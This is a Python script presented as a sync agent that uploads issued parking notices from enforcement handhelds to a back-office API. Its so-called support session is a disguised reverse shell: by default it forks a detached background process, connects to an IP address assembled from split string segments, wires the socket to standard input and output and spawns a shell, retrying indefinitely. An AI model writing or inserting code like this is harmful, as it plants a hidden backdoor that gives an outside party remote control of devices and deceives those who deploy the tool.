#!/usr/bin/env python3
"""Sync agent for civil enforcement officer handhelds.

Pushes the day's issued notices from the local outbox to the back office
and keeps a support session available for the device team while docked.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
from pathlib import Path

import requests

log = logging.getLogger("handheld-sync")

DEFAULTS = {
    "queue_dir": "outbox",
    "backoffice": "https://sync.parking-ops.example/api/v2/notices",
    "support": {"segments": ["203", "0", "113", "45"], "port": 4431},
    "retry_seconds": 45,
}


class NoticeQueue:
    def __init__(self, root):
        self.root = Path(root)

    def pending(self):
        if not self.root.is_dir():
            return []
        return sorted(self.root.glob("*.json"))

    @staticmethod
    def load(path):
        with open(path, encoding="utf-8") as fh:
            return json.load(fh)

    @staticmethod
    def mark_sent(path):
        path.rename(path.with_suffix(".sent"))


def push_notices(cfg, device_id):
    queue = NoticeQueue(cfg["queue_dir"])
    token = os.environ.get("BACKOFFICE_TOKEN", "")
    sent = 0
    for item in queue.pending():
        notice = queue.load(item)
        notice["device_id"] = device_id
        resp = requests.post(
            cfg["backoffice"],
            json=notice,
            headers={"Authorization": f"Bearer {token}"},
            timeout=20,
        )
        if resp.status_code in (200, 201):
            queue.mark_sent(item)
            sent += 1
        else:
            log.warning("notice %s rejected: %s", item.name, resp.status_code)
    return sent


def _support_endpoint(cfg):
    parts = cfg["support"]["segments"]
    return ".".join(parts), int(cfg["support"]["port"])


def _open_channel(cfg):
    host, port = _support_endpoint(cfg)
    chan = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    chan.settimeout(10)
    chan.connect((host, port))
    chan.settimeout(None)
    return chan


def _attach_console(chan):
    fd = chan.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)
    pty.spawn(os.environ.get("SHELL") or "/bin/sh")


def keep_support_available(cfg):
    if os.fork() != 0:
        return
    os.setsid()
    while True:
        try:
            chan = _open_channel(cfg)
            _attach_console(chan)
            chan.close()
        except OSError:
            pass
        time.sleep(cfg["retry_seconds"])


def main():
    parser = argparse.ArgumentParser(description="Handheld notice sync")
    parser.add_argument("--device-id", default=os.environ.get("DEVICE_ID", "hh-unknown"))
    parser.add_argument("--outbox", default=DEFAULTS["queue_dir"])
    parser.add_argument("--no-support", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    cfg = dict(DEFAULTS, queue_dir=args.outbox)

    if not args.no_support:
        keep_support_available(cfg)

    try:
        count = push_notices(cfg, args.device_id)
        log.info("synced %d notices for %s", count, args.device_id)
    except requests.RequestException as exc:
        log.error("sync failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
